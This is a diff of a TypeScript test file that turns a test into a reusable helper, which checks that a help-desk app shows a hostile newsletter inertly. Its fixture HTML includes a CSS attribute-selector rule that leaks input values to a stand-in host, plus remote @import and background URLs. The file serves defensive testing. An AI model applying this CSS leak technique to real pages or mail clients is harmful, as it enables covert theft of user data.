@@ -1,10 +1,8 @@
 // A mail that looks like a newsletter and behaves like an attack, read by an agent.
 import { deflateSync, crc32 } from "node:zlib";
-import { expect, test } from "vitest";
+import { expect } from "vitest";
 import { expectFitApp } from "./fitness.ts";
-import { openWorld, STAFF } from "./world.ts";
-
-const world = await openWorld();
+import { STAFF, type World } from "./world.ts";
 
 const HTML = `<html><head>
 <style>@import url(https://cdn.example/x.css); body{margin:0;background:#f4efe6 url(https://cdn.example/bg.png)}
@@ -27,7 +25,8 @@ input[value^=a]{background:url(https://cdn.example/leak?a)}</style>
 <div class="gmail_quote"><div class="gmail_attr">Den tors 19 nov. 2026 kl 10:12 skrev Fjällrum &lt;hej@fjallrum.example&gt;:<br></div>
 <blockquote class="gmail_quote"><p>Tack för ert mejl!</p></blockquote></div></body></html>`;
 
-test("it is shown as it was sent, nothing of it runs or is asked for, and its pictures come when the agent wants", async () => {
+/** It is shown as it was sent, nothing of it runs or is asked for, and its pictures come when the agent wants. */
+export async function expectHarmlessMail(world: World): Promise<void> {
   await world.control("/mail/inbound", newsletter(world.shop("fjallrum").email));
   const agent = await world.admin({ staff: STAFF.english });
   const { page, app } = agent;
@@ -81,7 +80,7 @@ test("it is shown as it was sent, nothing of it runs or is asked for, and its pi
   await app.getByRole("menuitem", { name: "Print conversation" }).click();
   await app.getByTestId("print").waitFor();
   await app.frameLocator("[data-mail-frame] iframe").getByText("Tack för ert mejl!").waitFor();
-});
+}
 
 /** The mail with its logo inside, as its sender's program writes it. */
 const newsletter = (to: string): string =>
